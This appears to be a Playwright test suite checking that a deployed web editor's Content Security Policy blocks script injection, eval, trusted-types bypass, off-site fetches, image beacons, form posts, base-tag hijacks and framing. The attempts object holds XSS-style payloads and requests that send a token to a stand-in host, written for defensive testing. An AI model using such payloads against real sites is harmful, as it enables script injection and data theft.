/** What the policy of the deployed editor keeps from happening, and what it must let through. */
import { readFileSync } from 'node:fs'
import path from 'node:path'
import type { Page } from '@playwright/test'
import { roots } from '../site/own-site.ts'
import { expect, test } from './deployed-editor.ts'

const contentOf = (name: string) =>
  JSON.parse(readFileSync(path.join(roots.own, 'content', name), 'utf8'))

/** Runs an attempt in a page. Returns the directives that it violates. */
async function violated(page: Page, attempt: () => unknown, frame?: string): Promise<string[]> {
  await page.goto('/')
  const target = frame ? await openFrame(page, frame) : page.mainFrame()
  const directives = await target.evaluateHandle(() => {
    const found: string[] = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      found.push(effectiveDirective),
    )
    return found
  })
  await target.evaluate(attempt)
  await expect.poll(() => directives.evaluate(({ length }) => length)).toBeGreaterThan(0)
  expect(await target.evaluate(() => document.title)).not.toContain('taken')
  return directives.evaluate((found) => [...new Set(found)])
}

/** Opens an address in a frame of the editor, and waits until its page takes content. */
async function openFrame(page: Page, address: string) {
  await page.evaluate(
    (src) =>
      new Promise((ready) => {
        const frame = Object.assign(document.createElement('iframe'), { src })
        frame.id = 'tried'
        Object.assign(frame.style, { position: 'fixed', inset: '0', width: '100%', height: '100%' })
        frame.addEventListener('content:ready', ready)
        document.body.append(frame)
      }),
    address,
  )
  const frame = await (await page.waitForSelector('#tried')).contentFrame()
  if (!frame) throw new Error('The frame has no document.')
  return frame
}

const attempts: Readonly<Record<string, () => unknown>> = {
  eval: () => {
    // In a task of its own, because the driver may evaluate texts.
    setTimeout(() => {
      try {
        Object(window).eval('document.title = "taken"')
      } catch {}
    })
  },
  'require-trusted-types-for': () => {
    try {
      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="document.title=1">')
    } catch {}
  },
  'trusted-types': () => {
    try {
      Object(window).trustedTypes.createPolicy('default', {})
    } catch {}
  },
  'style-src-elem': () => {
    const style = document.createElement('style')
    style.textContent = 'body { display: none }'
    document.head.append(style)
  },
  'connect-src': () => fetch('https://elsewhere.example/?token').catch(() => {}),
  'img-src': () => {
    new Image().src = 'https://elsewhere.example/?token'
  },
  'frame-src': () => {
    document.body.append(
      Object.assign(document.createElement('iframe'), { src: 'https://elsewhere.example/' }),
    )
  },
  'form-action': () => {
    const form = Object.assign(document.createElement('form'), {
      action: 'https://elsewhere.example/',
    })
    document.body.append(form)
    form.submit()
  },
  'base-uri': () => {
    document.head.append(
      Object.assign(document.createElement('base'), { href: 'https://elsewhere.example/' }),
    )
  },
}

/** The directive that an attempt violates. A text that is to be evaluated is refused as not trusted before all else. */
const directiveOf = (name: string) => (name === 'eval' ? 'require-trusted-types-for' : name)

test.describe('refuses', () => {
  // The wording is the browser's.
  test.use({
    expectedMessages: [/policy|trusted|^request to https:\/\/elsewhere\.|trusted-types|blocked/i],
  })

  for (const [name, attempt] of Object.entries(attempts)) {
    test(`in the editor: ${name}`, async ({ page }) => {
      expect(await violated(page, attempt)).toContain(directiveOf(name))
    })
  }

  for (const name of ['eval', 'connect-src', 'img-src', 'frame-src', 'style-src-elem']) {
    test(`in the preview: ${name}`, async ({ page }) => {
      const attempt = attempts[name] ?? (() => {})
      const found = await violated(page, attempt, '/preview?path=/contact')
      expect(found).toContain(directiveOf(name))
    })
  }

  test('in both: inline scripts that came with the page', async ({ page }) => {
    const inline = `<script>document.title = 'taken'</script><script type="module">document.title = 'taken'</script><img src="data:," onerror="document.title = 'taken'">`
    for (const address of ['/', '/preview?path=/']) {
      await page.route(address, async (route) => {
        const response = await route.fetch()
        const html = (await response.text()).replace('<body>', () => `<body>${inline}`)
        await route.fulfill({ response, body: html })
      })
      const said: string[] = []
      page.on('console', (message) => said.push(message.text()))
      await page.goto(address)
      await expect.poll(() => said.join()).toMatch(/script-src-elem.*script-src-attr/s)
      expect(await page.title()).not.toContain('taken')
    }
  })

  test('in the preview: requests to its own origin and to the API', async ({ page }) => {
    const attempt = () =>
      Promise.allSettled([fetch('/robots.txt'), fetch('https://git.example/api/v1/user')])
    expect(await violated(page, attempt, '/preview?path=/contact')).toEqual(['connect-src'])
  })

  test('to be framed: the editor by its own pages, and the preview by others', async ({
    page,
    baseURL,
  }) => {
    // The preview may frame nothing. A page of the same address may, up to the editor's own policy.
    await page.route('/framing', (route) =>
      route.fulfill({ contentType: 'text/html', body: '<title>Framing</title>' }),
    )
    await page.goto('/framing', { waitUntil: 'commit' })
    await page.evaluate(() => {
      const frame = Object.assign(document.createElement('iframe'), { src: '/' })
      document.body.append(frame)
    })
    await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/)
    for (const address of ['/', '/preview?path=/']) {
      await page.goto('about:blank')
      await page.setContent(`<iframe src="${baseURL}${address}"></iframe>`)
      await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/)
    }
  })
})

test('lets the preview show content, hover links, and show another page, without a word', async ({
  page,
}) => {
  await page.goto('/')
  const frame = await openFrame(page, '/preview?path=/contact')
  const show = (name: string) =>
    frame.evaluate(
      (content) => {
        Object.assign(window, { editedContent: { ...content, pictures: {}, form: undefined } })
        dispatchEvent(new Event('content:edit'))
      },
      { site: contentOf('site.json'), page: contentOf(name) },
    )
  await show('contact.json')
  await expect(frame.locator('h1')).toHaveText(contentOf('contact.json').sections[0].heading)
  await frame.locator('header a').nth(1).hover()
  await show('home.json')
  await expect(frame.locator('h1')).toHaveText(contentOf('home.json').sections[0].heading)
  // The site's own colours and fonts are in the page.
  const font = await frame.locator('h1').evaluate((heading) => getComputedStyle(heading).fontFamily)
  expect(font).toMatch(/outfit/i)
})

test('opens with its own scripts alone, from its own origin', async ({ page }) => {
  const asked: string[] = []
  page.on('request', (request) => asked.push(new URL(request.url()).pathname))
  await page.goto('/')
  await expect(page.locator('#editor')).not.toBeEmpty()
  expect(asked.filter((name) => !/^\/(?:$|assets\/|favicon\.svg$)/.test(name))).toEqual([])
  // What opens late is not among them.
  expect(asked.filter((name) => name.includes('code-editor'))).toEqual([])
})
